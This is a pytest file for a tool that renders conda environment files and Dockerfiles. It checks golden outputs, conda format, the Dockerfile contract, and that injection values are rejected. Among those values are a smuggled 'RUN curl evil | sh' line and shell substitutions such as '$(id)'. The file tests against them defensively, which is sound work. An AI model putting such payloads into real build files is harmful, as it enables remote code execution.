"""Rendering images/NAME/: golden files, conda format parse-back, injection attempts, --check."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml

from baseliner.errors import RenderError
from baseliner.lock import lock_baseline
from baseliner.render import docker_string, docker_token, out_of_date, render_outputs, write_outputs

from ..conftest import DATA, MakeProject, spec

GOLDEN = DATA / "golden" / "render"
UPDATE = os.environ.get("BASELINER_UPDATE_GOLDEN") == "1"


def _rendered(project, name: str) -> dict[str, bytes]:  # type: ignore[no-untyped-def]
    baseline = project.repo().resolve(name)
    lock_baseline(baseline, project.mirrors(), project.build_dir, project.pip_index)
    return render_outputs(baseline, project.templates_dir)


def _golden_spec() -> dict:
    # Data-only packages: their archives are byte-identical on every machine, so is the lock.
    return spec(
        "golden",
        conda=["needs-old-foo"],
        description="Golden-file baseline",
        image={
            "env": {"GREETING": 'say "hi" to $USER \\ friends'},
            "labels": {"org.example.team": "ml"},
        },
    )


def test_rendered_files_match_golden(make_project: MakeProject) -> None:
    outputs = _rendered(make_project({"golden": _golden_spec()}), "golden")
    if UPDATE:
        write_outputs(outputs, GOLDEN)
    for name, data in outputs.items():
        assert (GOLDEN / name).read_bytes() == data, f"{name} differs; BASELINER_UPDATE_GOLDEN=1 regenerates"
    assert sorted(p.name for p in GOLDEN.iterdir()) == sorted(outputs)


def test_rendering_twice_gives_same_bytes_and_no_timestamp(make_project: MakeProject) -> None:
    project = make_project({"golden": _golden_spec()})
    first = _rendered(project, "golden")
    second = render_outputs(project.repo().resolve("golden"), project.templates_dir)
    assert first == second
    for name, data in first.items():
        text = data.decode()
        lines = text.splitlines()
        header = lines[1] if lines[0].startswith("#!") else lines[0]  # after a script's shebang
        assert header.endswith(
            ("`invoke render -n golden`", "`invoke render -n golden` -->", "`invoke lock -n golden`")
        )
        assert not re.search(r"20\d\d-\d\d-\d\dT", text), name


def test_environment_yml_follows_conda_format(make_project: MakeProject) -> None:
    outputs = _rendered(
        make_project({"ml": spec("ml", conda=["python 3.*", "hello-noarch"], pip=["tinyapp"])}),
        "ml",
    )
    env = yaml.safe_load(outputs["environment.yml"])
    assert env["name"] == "ml"
    assert env["channels"] == ["fixture", "nodefaults"]
    conda = [d for d in env["dependencies"] if isinstance(d, str)]
    pip = next(d for d in env["dependencies"] if isinstance(d, dict))["pip"]
    # conda installs a pip section with the env's pip: the channel has none, so it is asked for
    assert conda[-1] == "pip"
    conda = conda[:-1]
    assert all(len(d.split("=")) == 3 for d in conda)  # name=version=build, as `conda env export`
    assert {d.split("=")[0] for d in conda} == {"python", "hello-noarch"}
    assert pip == ["tinyapp==0.5.0", "tinyutil==1.2.0"]
    condarc = yaml.safe_load(outputs["condarc"])
    assert condarc["pkgs_dirs"] == ["/home/baseliner/.conda/pkgs", "/opt/conda/pkgs-shared"]
    assert condarc["channel_priority"] == "strict"


def test_dockerfile_contract(make_project: MakeProject) -> None:
    text = _rendered(make_project({"golden": _golden_spec()}), "golden")["Dockerfile"].decode()
    assert "USER 1000:1000" in text
    assert 'ENV CONDA_PKGS_DIRS="/home/baseliner/.conda/pkgs,/opt/conda/pkgs-shared"' in text
    assert re.search(r'ENV PATH="/opt/env/bin:', text)
    assert "LABEL io.baseliner.lock-hash=" in text and "LABEL org.opencontainers.image.title=" in text
    assert "COPY env.tar.gz" in text  # the packed tarball, not a solve inside the image
    assert "conda install" not in text and "pip install" not in text
    # A hostile env value stays inside one quoted ENV line: no expansion, no new instruction.
    assert 'ENV GREETING="say \\"hi\\" to \\$USER \\\\ friends"' in text
    instructions = [line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert set(instructions) <= {
        "ARG",
        "FROM",
        "COPY",
        "RUN",
        "LABEL",
        "ENV",
        "VOLUME",
        "USER",
        "WORKDIR",
        "ENTRYPOINT",
        "CMD",
    }
    assert instructions.count("RUN") == 2


@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "x\rY", "esc\x1b[31m", "nul\x00"])
def test_control_characters_never_reach_a_dockerfile(value: str) -> None:
    with pytest.raises(RenderError):
        docker_string(value)
    with pytest.raises(RenderError):
        docker_token(value)


@pytest.mark.parametrize("value", ["a b", "$(id)", "`id`", "x;y", "a&&b", 'q"', "a|b", "RUN" + "\tx"])
def test_unquoted_tokens_are_allowlisted(value: str) -> None:
    with pytest.raises(RenderError):
        docker_token(value)


def test_check_finds_changed_missing_and_extra_files(make_project: MakeProject, tmp_path: Path) -> None:
    outputs = _rendered(make_project({"golden": _golden_spec()}), "golden")
    target = tmp_path / "images" / "golden"
    write_outputs(outputs, target)
    assert out_of_date(outputs, target) == []
    (target / "Dockerfile").write_text("FROM scratch\n")
    (target / "condarc").unlink()
    (target / "stray.txt").write_text("x")
    assert out_of_date(outputs, target) == ["Dockerfile", "condarc", "stray.txt"]


def test_repo_templates_override_packaged_ones(make_project: MakeProject) -> None:
    project = make_project({"golden": _golden_spec()})
    project.templates_dir.mkdir()
    (project.templates_dir / "condarc.j2").write_text("# {{ header }}\nchannels: []\n")
    outputs = _rendered(project, "golden")
    assert outputs["condarc"].decode().endswith("channels: []\n")
    assert outputs["Dockerfile"] == (GOLDEN / "Dockerfile").read_bytes()  # the rest: the packaged ones


def test_a_template_edited_between_two_renders_in_one_process_is_read_again(
    make_project: MakeProject,
) -> None:
    # The jinja environment is kept per directory (a no-op rebuild compiles nothing): an edit
    # must still show, as a long-running process (the test suite, a server) renders again.
    project = make_project({"golden": _golden_spec()})
    project.templates_dir.mkdir()
    template = project.templates_dir / "condarc.j2"
    template.write_text("channels: []\n")
    assert _rendered(project, "golden")["condarc"] == b"channels: []\n"
    template.write_text("channels: [edited]\n")
    os.utime(template, (1, 1))  # a new mtime even within the filesystem's timestamp granularity
    assert _rendered(project, "golden")["condarc"] == b"channels: [edited]\n"


def test_strict_undefined_turns_a_typo_into_an_error(make_project: MakeProject) -> None:
    project = make_project({"golden": _golden_spec()})
    project.templates_dir.mkdir()
    (project.templates_dir / "condarc.j2").write_text("channels: {{ chanels }}\n")
    with pytest.raises(RenderError, match="undefined"):
        _rendered(project, "golden")


def test_url_channels_become_names_with_custom_channels() -> None:
    from baseliner.render import CondaChannel, conda_channels

    assert conda_channels(["https://conda.example.org/org", "conda-forge"]) == [
        CondaChannel("org", "https://conda.example.org"),
        CondaChannel("conda-forge", None),
    ]


@pytest.mark.parametrize(
    ("remote", "source"),
    [
        ("git@github.com:acme/baselines.git", "ssh://github.com/acme/baselines.git"),
        (
            "https://ci:s3cret@git.example.org/acme/baselines.git",
            "https://git.example.org/acme/baselines.git",
        ),
        ("/srv/git/baselines.git", None),
        (None, None),
    ],
)
def test_vcs_labels_give_a_url_and_the_commit(tmp_path, remote, source) -> None:  # type: ignore[no-untyped-def]
    import subprocess

    from baseliner.pipeline import vcs_labels

    assert vcs_labels(tmp_path) == {}  # not a checkout

    def git(*args: str) -> str:
        return subprocess.run(
            ["git", "-C", str(tmp_path), *args], check=True, capture_output=True, text=True
        ).stdout

    git("init", "-q")
    git("-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "--allow-empty", "-m", "x")
    if remote:
        git("remote", "add", "origin", remote)
    labels = vcs_labels(tmp_path)
    assert labels.get("org.opencontainers.image.source") == source
    assert labels["org.opencontainers.image.revision"] == git("rev-parse", "HEAD").strip()
